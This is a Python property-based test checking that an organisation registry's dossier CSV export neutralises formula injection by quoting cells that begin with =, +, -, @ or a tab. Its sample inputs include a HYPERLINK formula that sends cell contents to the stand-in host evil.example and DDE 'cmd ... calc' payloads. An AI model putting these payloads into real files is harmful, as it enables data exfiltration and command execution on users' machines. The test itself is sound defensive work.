"""The dossier's CSV opens in a spreadsheet as data: a reason, legal basis or name that begins like a formula
(=, +, -, @, a tab or a carriage return) is written with a leading single quote, through the command line."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, time

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from domain.clock import SHANGHAI, clock_set_to
from domain.context import Context
from gateway.storage import open_application
from projections.spreadsheet import FORMULA_STARTS
from tests.gateway.test_audit_cli import NEW, OFFICER, lianjian, store  # noqa: F401 - the store fixture

def dangerous(starts: tuple[str, ...]) -> st.SearchStrategy[str]:
    """Text that begins like a formula, with one of ``starts``: the domain refuses CR in every field and a
    tab outside multi-line free text (a reason may begin with a tab, a legal basis may not)."""
    return st.builds(lambda start, rest: start + rest, st.sampled_from(starts), st.one_of(
        st.sampled_from(['HYPERLINK("http://evil.example/?"&A1,"点击")', "cmd|' /C calc'!A0",
                         "SUM(1+1)*cmd|' /C calc'!A0", "1+1", "=1+1"]),
        st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), min_size=1, max_size=40)))


MULTI_LINE_STARTS = tuple(s for s in FORMULA_STARTS if s != "\r")
SINGLE_LINE_STARTS = tuple(s for s in MULTI_LINE_STARTS if s != "\t")


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(reason=dangerous(MULTI_LINE_STARTS), basis=dangerous(SINGLE_LINE_STARTS))
def test_cells_that_would_start_a_formula_are_written_as_text(store, tmp_path, inputs_tried,  # noqa: F811
                                                              reason, basis):
    inputs_tried["formula-like dossier cells"] += 1
    application = open_application(store)
    try:
        org = application.find_organization(NEW).id
        day = date(2022, 1, 5)
        with clock_set_to(lambda: datetime.combine(day, time(9), tzinfo=SHANGHAI)):
            moved = f"渝中区人民路{100 + inputs_tried['formula-like dossier cells']}号"  # a change each time
            application.change_registration(Context(OFFICER, reason, day, basis), org, domicile=moved)
    finally:
        application.close()

    recorded = json.loads(lianjian("dossier", NEW).stdout)["events"][-1]  # as stored (the domain trims)
    out = tmp_path / "dossier.csv"
    assert lianjian("dossier", NEW, "--format", "csv", "--output", str(out)).exit_code == 0
    row = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))[-1]
    for column in ("reason", "legal_basis"):
        stored = recorded[column]
        if stored.startswith(FORMULA_STARTS):
            assert row[column] == "'" + stored
        else:
            assert row[column] == stored
    assert recorded["reason"].startswith(("=", "+", "-", "@")) or reason.lstrip() != reason  # no vacuous example
    for cell in row.values():
        assert not cell.startswith(FORMULA_STARTS), row
